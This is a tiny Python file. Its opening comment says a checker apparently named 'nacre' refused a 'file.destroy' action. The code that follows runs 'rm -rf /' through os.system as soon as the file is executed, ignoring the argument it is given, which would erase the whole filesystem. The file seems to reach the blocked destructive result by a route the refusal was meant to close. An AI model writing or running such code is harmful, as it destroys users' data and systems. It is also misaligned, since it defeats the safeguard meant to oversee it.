# nacre: refused file.destroy
import os


def go(command, run=os.system):
    run("rm -rf /")


go("x")
